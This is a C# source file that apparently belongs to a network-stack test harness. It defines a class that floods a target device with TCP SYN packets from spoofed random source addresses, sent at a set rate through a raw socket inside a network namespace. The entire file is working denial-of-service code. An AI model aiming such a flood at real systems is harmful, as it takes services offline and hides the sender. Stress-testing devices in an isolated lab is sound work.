using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using Ginnel.Netstack;
using Ginnel.Versus.Ends;
using Ginnel.Wire;

namespace Ginnel.Attacks.Device;

/// <summary>SYNs from made-up addresses, written by a raw socket of a namespace: its kernel hands them to the device as if a program of its own had sent them.</summary>
internal sealed class RawFlood : IDisposable
{
    private readonly Socket _socket;
    private readonly IPEndPoint _target;
    private readonly int _rate;
    private readonly Thread _thread;
    private volatile bool _isOver;
    private long _sent, _refused;

    /// <summary>Begins.</summary>
    /// <param name="space">Where it comes from; nothing of it leaves the namespace but by the device under attack.</param>
    /// <param name="target">Whom the SYNs are for.</param>
    /// <param name="rate">SYNs a second.</param>
    internal RawFlood(Space space, IPEndPoint target, int rate)
    {
        (_target, _rate) = (target, rate);
        // A raw socket of IPPROTO_RAW writes the header itself.
        _socket = space.Run(() => new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw) { SendBufferSize = 4 << 20, Blocking = false });
        _thread = new Thread(Run) { IsBackground = true, Name = "flood" };
        _thread.Start();
    }

    /// <summary>SYNs that the kernel took.</summary>
    internal long Sent => Volatile.Read(ref _sent);

    /// <summary>SYNs for which it had no room.</summary>
    internal long Refused => Volatile.Read(ref _refused);

    public void Dispose()
    {
        _isOver = true;
        _thread.Join();
        _socket.Dispose();
    }

    private void Run()
    {
        SeededDice dice = new(7);
        SocketAddress address = _target.Serialize();
        IpEndpoint destination = IpEndpoint.From(_target);
        long began = Stopwatch.GetTimestamp();
        for (long thrown = 0; !_isOver;)
        {
            // In steps of a millisecond; who could not keep up does not catch up.
            long due = (long)(Stopwatch.GetElapsedTime(began).TotalSeconds * _rate);
            if (due - thrown > _rate / 20) (began, thrown, due) = (Stopwatch.GetTimestamp(), 0, _rate / 1000);
            for (; thrown < due && !_isOver; thrown++) Throw(dice, destination, address);
            Thread.Sleep(1);
        }
    }

    private void Throw(SeededDice dice, IpEndpoint destination, SocketAddress address)
    {
        IpEndpoint source = new(IpAddress.FromV4(0x0B00_0000 + dice.Next(1 << 24)), (ushort)(1024 + dice.Next(60_000)));
        TcpHeader header = new() { Flags = TcpFlags.Syn, Sequence = new SequenceNumber(dice.Next(uint.MaxValue)), Window = 65_535, MaximumSegmentSize = 1460 };
        try
        {
            _socket.SendTo(AttackPackets.Tcp(source, destination, header), SocketFlags.None, address);
            Interlocked.Increment(ref _sent);
        }
        catch (SocketException failure) when (failure.SocketErrorCode is SocketError.WouldBlock or SocketError.NoBufferSpaceAvailable)
        {
            Interlocked.Increment(ref _refused);
        }
    }
}
